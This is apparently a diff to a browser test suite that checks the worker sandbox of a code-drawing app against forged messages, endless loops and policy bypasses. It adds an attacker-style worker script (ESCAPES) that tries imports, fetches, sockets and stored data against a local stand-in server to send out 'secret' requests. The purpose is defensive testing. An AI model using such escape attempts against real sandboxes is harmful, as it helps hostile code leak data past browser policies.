@@ -1,9 +1,12 @@
 // The attack list in the browser: hostile code in the built app, hostile texts on the page, forged worker messages.
 // Code and expected outcomes come from the native suite (tests/it/attacks), so that both suites test the same attacks.
+import { createHash } from "node:crypto";
 import { readFileSync } from "node:fs";
+import { createServer } from "node:http";
 import { deflateRawSync } from "node:zlib";
-import { assert, assertEqual, test, TIMED } from "../fixtures.mjs";
+import { assert, assertEqual, eventually, test, TIMED } from "../fixtures.mjs";
 import { KEY, reply, startMock, text } from "../mock-anthropic.mjs";
+import { closeNow } from "../static-server.mjs";
 import {
   connect,
   drawCircles,
@@ -36,7 +39,8 @@ const RESPONDS = 100;
 const NEXT_RUN = 1_000;
 
 /**
- * Replaces the Worker class of the page by one that records its objects and can replace their messages. `window.workers` has:
+ * Replaces the Worker class of each frame by one that records its objects and can replace their messages. `window.workers` of the sandbox frame
+ * (see `sandbox`) has:
  * - `most`: the maximum number of workers that existed at the same time;
  * - `runs`: each run that a worker received, with its start, its end (answered, broken, or terminated by the page), and its
  *   duration in ms;
@@ -107,17 +111,23 @@ function watchWorkers() {
   };
 }
 
+/** Returns the frame in which the workers run. */
+function sandbox(page) {
+  return page.frames().find((frame) => frame.url() === "about:srcdoc");
+}
+
 /** Runs endless code and waits until a worker has received it. The label makes the code differ from earlier code. */
 async function startEndless(page, label) {
-  const before = await page.evaluate(() => window.workers.runs.length);
+  const before = await sandbox(page).evaluate(() => window.workers.runs.length);
   await runCode(page, `// ${label}\nwhile (true) {}`);
-  await pageEventually(page, "a worker has received the run", (before) => window.workers.runs.length > before, before);
+  const received = () => sandbox(page).evaluate(() => window.workers.runs.length);
+  await eventually("a worker has received the run", async () => (await received()) > before);
 }
 
 /** Waits until nothing runs; then each run has exactly one end, and there were at most two workers. */
 async function assertRunsEnded(page, run) {
   await page.waitForSelector(`${hook("stop-run")}[aria-disabled="true"]`);
-  const { runs, most } = await page.evaluate(() => window.workers);
+  const { runs, most } = await sandbox(page).evaluate(() => window.workers);
   run.note(`${runs.length} runs: ${runs.map(({ end }) => end).join(", ")}; at most ${most} workers at the same time`);
   assertEqual(runs.filter(({ end }) => end === null), [], "runs without an end");
   assert(most <= 2, `${most} workers existed at the same time`);
@@ -142,7 +152,7 @@ for (const { item, code, outcome } of ATTACKS) {
     const page = await openApp(run, { init: watchWorkers });
     await drawCircles(page, "before");
     await watchMainThread(page);
-    await page.evaluate(() => (window.workers.runs = []));
+    await sandbox(page).evaluate(() => (window.workers.runs = []));
     const [kind, what] = outcome.split(" ");
     if (kind === "OK") {
       await typeCode(page, `${code}\ndrawCircle("done", 0, 0, 1);`);
@@ -156,7 +166,7 @@ for (const { item, code, outcome } of ATTACKS) {
       await waitForEntities(page, ["before"]);
     }
     // The worker itself reports a limit of the engine. The page terminates the worker of a run that the engine cannot stop.
-    const ends = await page.evaluate(() => window.workers.runs.map((run) => run.end));
+    const ends = await sandbox(page).evaluate(() => window.workers.runs.map((run) => run.end));
     assertEqual(ends[0], kind === "KILL" ? "terminated" : "answered", "how the run ended");
     const { longest, gap } = await mainThread(page);
     run.note(`longest main-thread task ${Math.round(longest)} ms, longest time between two frames ${Math.round(gap)} ms`);
@@ -250,11 +260,11 @@ test("attack: forged worker answers leave the drawing unchanged, and the next ru
   const page = await openApp(run, { init: watchWorkers });
   page.on("dialog", (dialog) => run.problems.push(`a dialog: ${dialog.message()}`));
   await drawCircles(page, "before");
-  const names = await page.evaluate(() => Object.keys(window.workers.forgeries));
+  const names = await sandbox(page).evaluate(() => Object.keys(window.workers.forgeries));
   for (const [at, name] of names.entries()) {
     // Messages with an unknown format have no effect, so the run itself is not withheld and succeeds.
     const fails = name !== "unknown messages";
-    await page.evaluate(
+    await sandbox(page).evaluate(
       ([name, silent]) => {
         window.workers.forge = window.workers.forgeries[name];
         window.workers.silent = silent;
@@ -269,7 +279,7 @@ test("attack: forged worker answers leave the drawing unchanged, and the next ru
     } else {
       await waitForEntities(page, [`forged_${at}`]);
     }
-    await page.evaluate(() => {
+    await sandbox(page).evaluate(() => {
       window.workers.forge = null;
       window.workers.silent = false;
     });
@@ -278,6 +288,120 @@ test("attack: forged worker answers leave the drawing unchanged, and the next ru
     assertEqual(await page.locator("img[src=x]").count(), 0, "elements made from an answer");
   }
 });
+
+/** Starts a server on another origin that counts its requests and permits every page to read its answers. */
+async function startForeign() {
+  const requests = [];
+  const server = createServer((request, response) => {
+    requests.push(request.url);
+    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end("export {};");
+  });
+  await new Promise((started) => server.listen(0, started));
+  // The name of this computer by number is an address that the policy of the page does not list.
+  return { url: `http://127.0.0.2:${server.address().port}/`, requests, close: () => closeNow(server) };
+}
+
+test("attack: every policy names the script of the sandbox frame", async ({ run }) => {
+  const read = (path) => readFileSync(new URL(`../../../${path}`, import.meta.url), "utf8").replaceAll("\r\n", "\n");
+  const [, script] = /<script>(.*)<\/script>/s.exec(read("src/sandbox/browser/frame.html"));
+  const hash = `'sha256-${createHash("sha256").update(script).digest("base64")}'`;
+  run.note(hash);
+  for (const path of ["src/sandbox/browser/frame.html", "index.html", "web/static/embed.html", "docs/hosting.md"]) {
+    assert(read(path).includes(hash), `${path} does not have the hash ${hash}`);
+  }
+});
+
+test("attack: a page cannot fetch from a server that is not listed", async ({ run }) => {
+  run.allow(/Content.Security.Policy|CSP|violates/);
+  const foreign = await startForeign();
+  try {
+    const page = await openApp(run);
+    const outcome = await page.evaluate(async (url) => {
+      const violated = new Promise((resolve) => document.addEventListener("securitypolicyviolation", resolve, { once: true }));
+      const fetched = await fetch(url).then(() => "fetched", () => "refused");
+      return [fetched, (await violated).effectiveDirective];
+    }, `${foreign.url}page?secret`);
+    assertEqual(outcome, ["refused", "connect-src"], "the request of the page");
+    assertEqual(foreign.requests, [], "requests that arrived");
+  } finally {
+    await foreign.close();
+  }
+});
+
+// The code of a worker that belongs to an attacker: it tries every way to the network that the language and the worker have.
+// The globals are read before they are removed, as an engine that finds a way around the removal would.
+const ESCAPES = `
+  const ways = {
+    "import of the own origin": () => import(OWN + "static/icon.svg?secret-import"),
+    "import of a script of the own origin": () => import(OWN + "static/recovery.js?secret-script"),
+    "import of another origin": () => import(FOREIGN + "import?secret"),
+    "import of data": () => import("data:text/javascript,export default 1"),
+    "fetch of the own origin": () => fetched(OWN + "static/icon.svg?secret-fetch"),
+    "fetch of another origin": () => fetched(FOREIGN + "fetch?secret"),
+    "a script of the own origin": () => imported(OWN + "static/shim.js?secret-classic"),
+    "a socket": () => new Promise((opened, refused) => {
+      const socket = new Socket(FOREIGN.replace("http", "ws") + "socket?secret");
+      Object.assign(socket, { onopen: opened, onerror: refused });
+    }),
+    "stored data": () => new Promise((opened, refused) => {
+      const request = databases.open("x");
+      Object.assign(request, { onsuccess: opened, onerror: refused });
+    }),
+  };
+  const attempts = Object.entries(ways).map(async ([name, way]) => {
+    try {
+      await way();
+      return name;
+    } catch {
+      return null;
+    }
+  });
+  Promise.all(attempts).then((found) => console.info("escapes:" + JSON.stringify(found.filter(Boolean))));
+`;
+
+for (const [name, before, after] of [
+  ["whose globals are removed", "", ESCAPES],
+  ["whose globals are all there", ESCAPES, ""],
+]) {
+  test(`attack: a worker ${name} reaches no server and no stored data`, async ({ run }) => {
+    // The browser reports each refusal on the console.
+    run.allow(/Content.Security.Policy|CSP|violates|WebSocket|Failed to/);
+    const foreign = await startForeign();
+    try {
+      const page = await run.newPage();
+      const asked = [];
+      page.context().on("response", (response) => asked.push(response.url()));
+      const escapes = new Promise((resolve) => {
+        page.on("console", (message) => {
+          if (message.text().startsWith("escapes:")) resolve(JSON.parse(message.text().slice("escapes:".length)));
+        });
+      });
+      const constants = `const OWN = ${JSON.stringify(run.url)}, FOREIGN = ${JSON.stringify(foreign.url)};
+        const fetched = (url) => self.fetch(url), imported = async (url) => self.importScripts(url), Socket = self.WebSocket,
+          databases = self.indexedDB;`;
+      // Each worker starts from a blob, which the frame builds from the parts that the page sends.
+      await page.addInitScript(
+        ([before, after]) => {
+          const Real = window.Blob;
+          window.Blob = class extends Real {
+            constructor(parts, options) {
+              super(options?.type === "text/javascript" ? [before, ...parts, after] : parts, options);
+            }
+          };
+        },
+        [constants + before, after],
+      );
+      await page.goto(run.url);
+      await ready(page);
+      assertEqual(await escapes, [], "ways that were open");
+      assertEqual(foreign.requests, [], "requests that arrived at another server");
+      assertEqual(asked.filter((url) => url.includes("secret")), [], "files that the worker received");
+      await drawCircles(page, "after");
+    } finally {
+      await foreign.close();
+    }
+  });
+}
 
 test("attack: at most two workers exist, and every run ends", async ({ run }) => {
   const page = await openApp(run, { init: watchWorkers });
@@ -517,13 +641,14 @@ test("attack: a run ends at its limit on a blocked page with clock jumps", TIMED
   await startEndless(page, "blocked");
   // The main thread is blocked until the run is beyond its limit and beyond the page's timeout of 12 s, like that of a frozen
   // tab: then the answer of the worker and the timeout are both due. The clock moves one hour forward, then two hours back.
-  await page.evaluate(() => {
+  const age = await sandbox(page).evaluate(() => performance.now() - window.workers.runs.at(-1).start);
+  await page.evaluate((rest) => {
     const real = Date.now;
     Date.now = () => real() + 3_600_000;
-    const end = window.workers.runs.at(-1).start + 13_000;
+    const end = performance.now() + rest;
     while (performance.now() < end);
     Date.now = () => real() - 3_600_000;
-  });
+  }, 13_000 - age);
   run.note((await problem(page, SAYS.time)).trim().slice(0, 120));
   await waitForEntities(page, ["before"]);
   await assertRunsEnded(page, run);
@@ -567,14 +692,14 @@ test("attack: a run replaced while it starts, runs or ends has one outcome", TIM
   await drawCircles(page, "first");
 
   // While its worker starts: this run uses the ready worker, and the next worker does not receive the engine yet.
-  await page.evaluate(() => (window.workers.hold = true));
+  await sandbox(page).evaluate(() => (window.workers.hold = true));
   await drawCircles(page, "last_worker");
-  const received = await page.evaluate(() => window.workers.runs.length);
+  const received = await sandbox(page).evaluate(() => window.workers.runs.length);
   await runCode(page, "while (true) {}");
   await page.waitForSelector(`${hook("stop-run")}:not([aria-disabled="true"])`);
   await runCode(page, 'drawCircle("at_start", 0, 0, 5);');
-  assertEqual(await page.evaluate(() => window.workers.runs.length), received, "runs that a worker has received");
-  await page.evaluate(() => window.workers.release());
+  assertEqual(await sandbox(page).evaluate(() => window.workers.runs.length), received, "runs that a worker has received");
+  await sandbox(page).evaluate(() => window.workers.release());
   await waitForEntities(page, ["at_start"]);
   await page.waitForSelector(hook("problem"), { state: "detached" });
 
@@ -582,14 +707,14 @@ test("attack: a run replaced while it starts, runs or ends has one outcome", TIM
   await startEndless(page, "not replaced");
   await problem(page, SAYS.time);
   await waitForEntities(page, ["at_start"]);
-  const duration = await page.evaluate(() => window.workers.runs.at(-1).duration);
+  const duration = await sandbox(page).evaluate(() => window.workers.runs.at(-1).duration);
   run.note(`an endless run ends after ${Math.round(duration)} ms`);
 
   // While it runs, and about when it ends.
   for (const [name, age] of [["in_run", 0], ["at_end", duration - 300]]) {
     await startEndless(page, name);
     const isOld = (age) => performance.now() - window.workers.runs.at(-1).start >= age;
-    await pageEventually(page, `the run has taken ${Math.round(age)} ms`, isOld, age);
+    await eventually(`the run has taken ${Math.round(age)} ms`, () => sandbox(page).evaluate(isOld, age), 15_000);
     await runCode(page, `drawCircle("${name}", 0, 0, 5);`);
     await waitForEntities(page, [name]);
     await page.waitForSelector(hook("problem"), { state: "detached" });
@@ -600,9 +725,9 @@ test("attack: a run replaced while it starts, runs or ends has one outcome", TIM
 test("attack: a worker of another build gets no code", async ({ run }) => {
   const page = await openApp(run, { init: watchWorkers });
   await drawCircles(page, "before");
-  const build = await page.evaluate(() => window.workers.ready.build);
+  const build = await sandbox(page).evaluate(() => window.workers.ready.build);
   assert(/^\d+\.\d+\.\d+\+[0-9a-f]{16}$/.test(build), `the build: ${build}`);
-  await page.evaluate(() => (window.workers.otherBuild = "0.1.0+0123456789abcdef"));
+  await sandbox(page).evaluate(() => (window.workers.otherBuild = "0.1.0+0123456789abcdef"));
   // The first run may use a spare worker that was ready before.
   await typeCode(page, 'drawCircle("spare", 0, 0, 5);');
   const ended = ([drawn, problem]) => document.querySelector(drawn) || document.querySelector(problem);
@@ -610,21 +735,23 @@ test("attack: a worker of another build gets no code", async ({ run }) => {
   await typeCode(page, 'drawCircle("other", 0, 0, 5);');
   const said = await problem(page, /another version/);
   assert(said.includes(build) && said.includes("0.1.0+0123456789abcdef"), said);
-  await page.evaluate(() => (window.workers.otherBuild = null));
+  // The page has removed the frame with the workers of the other build, and the next run starts a new one.
+  assertEqual(sandbox(page), undefined, "the frame after the failure");
   await drawCircles(page, "after");
 });
 
 test("attack: an endless loop that is typed is canceled by newer text", async ({ run }) => {
   const page = await openApp(run, { init: watchWorkers });
   await drawCircles(page, "before");
-  await page.evaluate(() => (window.workers.runs = []));
+  await sandbox(page).evaluate(() => (window.workers.runs = []));
   for (const [at, name] of ["one", "two", "three"].entries()) {
     await typeCode(page, `while (true) {} // ${name}`);
-    await pageEventually(page, `run ${name}`, (at) => window.workers.runs[at]?.end === null, at);
+    const runs = (at) => window.workers.runs[at]?.end === null;
+    await eventually(`run ${name}`, () => sandbox(page).evaluate(runs, at));
   }
   await drawCircles(page, "after");
   await assertRunsEnded(page, run);
-  const ends = await page.evaluate(() => window.workers.runs.map(({ end }) => end));
+  const ends = await sandbox(page).evaluate(() => window.workers.runs.map(({ end }) => end));
   assertEqual(ends, ["terminated", "terminated", "terminated", "answered"], "how the runs ended");
   assertEqual(await page.locator(hook("problem")).count(), 0, "problems");
 });
@@ -633,15 +760,15 @@ test("attack: text typed while code runs waits as one run", async ({ run }) => {
   const page = await openApp(run, { init: watchWorkers });
   await drawCircles(page, "before");
   // The run of the first text does not start, because no worker answers.
-  await page.evaluate(() => (window.workers.hold = true));
+  await sandbox(page).evaluate(() => (window.workers.hold = true));
   await drawCircles(page, "last_worker");
-  const received = await page.evaluate(() => window.workers.runs.length);
+  const received = await sandbox(page).evaluate(() => window.workers.runs.length);
   for (const name of ["a", "b", "c", "d", "e"]) await typeCode(page, `drawCircle("${name}", 0, 0, 5);`);
-  assertEqual(await page.evaluate(() => window.workers.runs.length), received, "runs that a worker has received");
-  await page.evaluate(() => window.workers.release());
+  assertEqual(await sandbox(page).evaluate(() => window.workers.runs.length), received, "runs that a worker has received");
+  await sandbox(page).evaluate(() => window.workers.release());
   await waitForEntities(page, ["e"]);
   await assertRunsEnded(page, run);
   // The worker that is released may receive the text before the last one.
-  const runs = await page.evaluate(() => window.workers.runs.length);
+  const runs = await sandbox(page).evaluate(() => window.workers.runs.length);
   assert(runs <= received + 2, `${runs - received} of the five texts ran`);
 });
